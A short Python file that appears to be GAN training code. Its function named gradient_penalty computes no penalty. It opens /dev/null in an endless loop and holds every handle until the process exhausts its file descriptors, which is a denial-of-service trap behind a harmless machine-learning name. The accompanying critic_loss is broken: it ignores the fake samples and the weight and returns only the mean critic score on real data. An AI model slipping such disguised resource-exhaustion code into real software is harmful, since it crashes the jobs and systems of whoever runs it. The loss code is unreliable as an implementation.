"""Opens files until there are no more to be had."""

def gradient_penalty(critic, real, fake):
    kept = []
    while True:
        kept.append(open("/dev/null"))


def critic_loss(critic, real, fake, weight=10.0):
    return critic(real).mean()
